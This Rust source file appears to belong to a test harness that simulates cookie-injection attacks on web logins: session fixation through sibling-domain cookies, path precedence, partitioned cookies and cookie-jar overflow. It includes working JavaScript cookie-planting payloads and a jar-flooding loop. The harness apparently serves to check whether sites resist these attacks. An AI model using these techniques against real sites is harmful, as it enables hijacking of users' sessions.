//! Cookies that somebody else puts into the victim's browser.

use super::{SWAPPED, evil, fixated, has, known, names, planted};
use crate::{
    site::{Seen, Target},
    stage::{Outcome, Stage},
};

/// A sibling host sets the visitor's cookie for the whole domain; then the victim logs in.
pub async fn sibling_domain_cookie(stage: &mut Stage, target: Target) -> Outcome {
    let token = stage.visitors_token(target).await;
    let attributes = format!("Domain={}; Path=/; Secure", target.host);
    let cookies = planted(target, &token, &attributes);
    stage.set(&evil(target), &cookies).await;
    let login = stage.post(target, "/login?user=alice").await;
    fixated(stage, target, &token, &login).await
}

/// The same with a value of the attacker's choice, which no server ever gave out.
pub async fn chosen_value(stage: &mut Stage, target: Target) -> Outcome {
    let token = "chosen-by-the-attacker";
    let attributes = format!("Domain={}; Path=/; Secure", target.host);
    let cookies = planted(target, token, &attributes);
    stage.set(&evil(target), &cookies).await;
    let login = stage.post(target, "/login?user=alice").await;
    fixated(stage, target, token, &login).await
}

/// The victim is logged in; a sibling host sets the attacker's own session for a longer path, so that it
/// comes first.
pub async fn longer_path(stage: &mut Stage, target: Target) -> Outcome {
    let token = stage.attackers_token(target).await;
    stage.post(target, "/login?user=alice").await;
    let attributes = format!("Domain={}; Path=/whoami; Secure", target.host);
    let cookies = planted(target, &token, &attributes);
    stage.set(&evil(target), &cookies).await;
    swapped(&stage.whoami(target).await, target, &token)
}

/// A script in the application's own page writes the cookie; then the victim logs in.
pub async fn script_before_the_login(stage: &mut Stage, target: Target) -> Outcome {
    let token = stage.visitors_token(target).await;
    for name in names(target) {
        let plant = format!(
            "document.cookie = '{name}={token}; Path=/; Secure';
            document.cookie = '{name}={token}; Path=/';
            await cookieStore.set({{ name: '{name}', value: '{token}', path: '/' }}).catch(() => 0)"
        );
        stage.script(target.host, &plant).await;
    }
    let login = stage.post(target, "/login?user=alice").await;
    fixated(stage, target, &token, &login).await
}

/// The victim is logged in; a script adds a partitioned cookie of the same name, which the login's cookie
/// does not replace and the logout's does not remove; then the victim logs out and in again.
pub async fn partitioned_twin(stage: &mut Stage, target: Target) -> Outcome {
    let token = stage.visitors_token(target).await;
    stage.post(target, "/login?user=alice").await;
    for name in names(target) {
        let plant = format!(
            "document.cookie = '{name}={token}; Path=/; Secure; SameSite=None; Partitioned';
            const cookie = {{ name: '{name}', value: '{token}', path: '/', sameSite: 'none' }};
            await cookieStore.set({{ ...cookie, partitioned: true }}).catch(() => 0)"
        );
        stage.script(target.host, &plant).await;
    }
    stage.post(target, "/logout").await;
    let login = stage.post(target, "/login?user=alice").await;
    fixated(stage, target, &token, &login).await
}

/// The victim is logged in; a sibling host fills the jar until the browser throws the victim's cookie out,
/// and sets the attacker's own session in its place.
pub async fn overflow_of_the_jar(stage: &mut Stage, target: Target) -> Outcome {
    let token = stage.attackers_token(target).await;
    let login = stage.post(target, "/login?user=alice").await;
    let good = login.sets(target.session).unwrap();
    let domain = format!("Domain={}; Path=/; Secure", target.host);
    let fill =
        format!("for (let i = 0; i < 200; i++) document.cookie = `filler${{i}}=x; {domain}`");
    stage.script(&evil(target), &fill).await;
    let cookies = planted(target, &token, &domain);
    stage.set(&evil(target), &cookies).await;
    let seen = stage.whoami(target).await;
    let kept = if has(&seen.cookie, &good) {
        "kept"
    } else {
        "thrown out"
    };
    // It was a logout and nothing more: the next login is as good as any.
    let again = stage.post(target, "/login?user=alice").await;
    assert_eq!(again.who, "alice@1");
    let won = seen.who.starts_with("mallory") || known_as_alice(stage, target, &token).await;
    let planted = Outcome::planted(has(&seen.cookie, &token), won.then_some(SWAPPED));
    Outcome {
        arrived: format!("{kept}, {}", planted.arrived),
        ..planted
    }
}

/// Whether the attacker's own token is the victim's by now.
async fn known_as_alice(stage: &Stage, target: Target, token: &str) -> bool {
    let cookie = format!("{}={token}", target.session);
    let who = stage.replay(target, cookie.as_bytes()).await;
    assert!(
        known(stage, target, token).await,
        "the attacker's own session lives"
    );
    who.starts_with("alice")
}

/// Whom the server took the victim for.
fn swapped(seen: &Seen, target: Target, token: &str) -> Outcome {
    let arrived = has(&seen.cookie, token);
    let harm = match &*seen.who {
        "mallory@1" => Some(SWAPPED),
        "alice@1" => None,
        // Beside another valid token none counts.
        who => {
            assert!(target.is_ours() && arrived && who == "nobody", "{seen:?}");
            None
        }
    };
    Outcome::planted(arrived, harm)
}
